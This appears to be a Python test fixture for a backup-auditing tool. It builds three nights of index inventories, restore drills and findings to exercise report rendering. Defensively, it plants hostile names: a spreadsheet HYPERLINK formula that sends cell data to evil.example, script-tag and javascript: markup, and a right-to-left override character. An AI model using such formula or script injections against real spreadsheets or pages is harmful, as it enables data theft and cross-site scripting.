"""Three nights of one project that exercise every part of a report, with hostile names."""

from dataclasses import replace
from datetime import timedelta
from functools import cache
from typing import Any

from backup_auditor.controls.catalog import CATALOG
from backup_auditor.domain.evaluation.evaluator import ControlCatalog, evaluate_controls
from backup_auditor.domain.finding import Resource, ResourceType, Severity, compute_fingerprint
from backup_auditor.domain.inventory import Inventory, merge_reads
from backup_auditor.domain.lifecycle.advance import advance
from backup_auditor.domain.listing import ListingRead, ReadFailure
from backup_auditor.domain.project_state import EMPTY_STATE, Drift, DrillResult, KnownDrill, ResolvedFinding
from backup_auditor.domain.reporting.report import Report, compute_audit_id, make_report
from support.builders.facts import (
    DAY,
    NOW,
    IndexCase,
    build_backup,
    build_index,
    build_inventory,
    build_known_drill,
    build_policy,
    build_running_drill,
    build_schedule,
    rename_index,
)
from support.builders.reports import EXEMPTION, build_bare_index, build_exempting_policy

POLICY = build_policy(
    base=build_exempting_policy(EXEMPTION), restore_drill_within=90 * DAY, max_restore_time=timedelta(hours=1)
)
CONTROL_IDS = (
    "backups-have-live-source",
    "exemptions-are-current",
    "index-has-recovery-point",
    "index-has-schedule",
    "inventory-is-complete",
    "schedule-is-enabled",
    "schedule-retention-meets-minimum",
)
FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1, '@octocat')"
MARKUP = '<script>alert(1)</script> [x](javascript:alert(1)) `a|b` "q" #1 \u202egnp.\x07\n</testsuite> :+1: {0}'
HOSTILE_FAILURE = ReadFailure(
    "GET /indexes/vectors/backup-schedules", "503: <b>@octocat</b> =1+1, see http://evil.example and #12"
)


def select_controls(*controls: str) -> ControlCatalog:
    """Return a catalog of only these controls."""
    return ControlCatalog(
        project_controls=tuple(it for it in CATALOG.project_controls if it.id in controls),
        index_controls=tuple(it for it in CATALOG.index_controls if it.id in controls),
        deleted_index_controls=tuple(it for it in CATALOG.deleted_index_controls if it.id in controls),
    )


SMALL_CATALOG = select_controls(*CONTROL_IDS)
_EVENTS_INDEX = Resource(ResourceType.INDEX, "default", "events", "id-events")
RESOLVED_FINDING = ResolvedFinding(
    compute_fingerprint("schedule-is-enabled", _EVENTS_INDEX),
    "schedule-is-enabled",
    _EVENTS_INDEX,
    Severity.HIGH,
    first_seen=NOW,
    resolved_at=NOW + 2 * DAY,
    reason="the index is gone: -2+3",
)
"""A resolved finding without a successor. Like drift, only a complete audit reports it."""
DRIFT = Drift(
    "the schedule was changed",
    Resource(ResourceType.INDEX, "default", "orders", "id-orders"),
    {"schedule": "=nightly", "schedule_id": "s-1", "retention_days": 7},
    {"schedule": "=nightly", "schedule_id": "s-1", "retention_days": 14},
)
WARNINGS = (
    'Rule "<b>production</b>" (rules[0]) fits no index: the pattern “prod-*” has quotation marks in it.',
    'Rule "by-prefix" (rules[1]): the value "prod*" of the tag "env" looks like a pattern.',
)


_LAST_NIGHT = NOW + 2 * DAY


def _build_drill(name: str, age: timedelta, **facts: Any) -> KnownDrill:
    """Build a drill that ended this long before the last night."""
    facts = {"index_name": name, "index_id": f"id-{name}", "target_name": f"drill-{name}-1a2b3c4d", **facts}
    return build_known_drill(age - 2 * DAY, drill_id=f"{name}-{age // DAY}", **facts)


DRILLS = {
    it.drill_id: it
    for it in (
        _build_drill("orders", 40 * DAY, restore_time=timedelta(minutes=8, seconds=20)),
        _build_drill("orders", 10 * DAY, restore_time=timedelta(minutes=12, seconds=30), backup_id=MARKUP),
        _build_drill("orders", 1 * DAY, restore_time=timedelta(minutes=70), result=DrillResult.FAILED),
        _build_drill("vectors", 1 * DAY),
        _build_drill("wiki", 100 * DAY),
        replace(
            build_running_drill(),
            drill_id="wiki-0",
            index_id="id-wiki",
            index_name="wiki",
            target_name="drill-wiki-1a2b3c4d",
            started_at=_LAST_NIGHT - timedelta(hours=1),
            ends_by=_LAST_NIGHT + timedelta(hours=6),
        ),
    )
}
"""The restore drills before the last night: proofs of three indexes, a failed drill and a running one."""


def _build_paused_index(name: str) -> IndexCase:
    return rename_index(build_index(schedules=[build_schedule(enabled=False)]), name)


def _build_healthy_index(name: str) -> IndexCase:
    return rename_index(build_index(), name)


def build_inventories() -> list[Inventory]:
    """Return the inventories of three nights.

    On the last night `orders` is resolved, and `wiki` reopens; `carts` is ongoing, `scratch-1` is exempted,
    `vectors` is unreadable, and two indexes with hostile names are new.
    """
    orphaned_backup = replace(build_backup(90 * DAY, backup_id="manual-old", index_id="id-old"), index_name="old")
    unchanged_indexes = (build_bare_index("carts"), build_bare_index("scratch-1"))
    unread_index = rename_index(build_index(schedules=merge_reads([ListingRead((), HOSTILE_FAILURE)])), "vectors")
    inventories = [
        build_inventory(
            *unchanged_indexes,
            _build_paused_index("orders"),
            _build_paused_index("wiki"),
            _build_healthy_index("vectors"),
            extra_backups=[orphaned_backup],
        ),
        build_inventory(
            *unchanged_indexes,
            _build_paused_index("orders"),
            _build_healthy_index("wiki"),
            _build_healthy_index("vectors"),
            extra_backups=[orphaned_backup],
        ),
        build_inventory(
            *unchanged_indexes,
            _build_healthy_index("orders"),
            _build_paused_index("wiki"),
            unread_index,
            build_bare_index(FORMULA),
            build_bare_index(MARKUP),
            extra_backups=[orphaned_backup],
        ),
    ]
    return [replace(it, observed_at=NOW + number * DAY) for number, it in enumerate(inventories)]


@cache
def build_last_report(catalog: ControlCatalog = SMALL_CATALOG) -> Report:
    """Audit the three nights, and return the report of the last night."""
    state, report = EMPTY_STATE, None
    for inventory in build_inventories():
        evaluation = evaluate_controls(inventory, POLICY, catalog, state)
        result = advance(state, inventory, POLICY, evaluation.findings, compute_audit_id(inventory, POLICY))
        state, report = replace(result.state, drills=DRILLS), make_report(inventory, POLICY, evaluation, result)
    assert report is not None
    # the tests do not depend on the hash of the inventory
    return replace(
        report,
        audit_id="0123456789abcdef" * 2,
        resolved_findings=(*report.resolved_findings, RESOLVED_FINDING),
        drift=(DRIFT,),
        warnings=WARNINGS,
    )
